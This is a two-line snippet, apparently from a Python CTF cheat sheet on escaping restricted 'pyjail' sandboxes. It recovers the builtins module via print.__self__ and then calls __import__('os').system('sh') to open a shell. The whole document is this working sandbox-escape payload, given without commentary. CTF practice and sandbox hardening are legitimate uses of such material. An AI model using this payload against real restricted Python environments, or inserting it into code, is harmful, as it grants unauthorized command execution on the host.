# Source: https://github.com/salvatore-abello/python-ctf-cheatsheet/blob/main/pyjails/README.md (restore builtins via __self__)
b = print.__self__
b.__import__("os").system("sh")
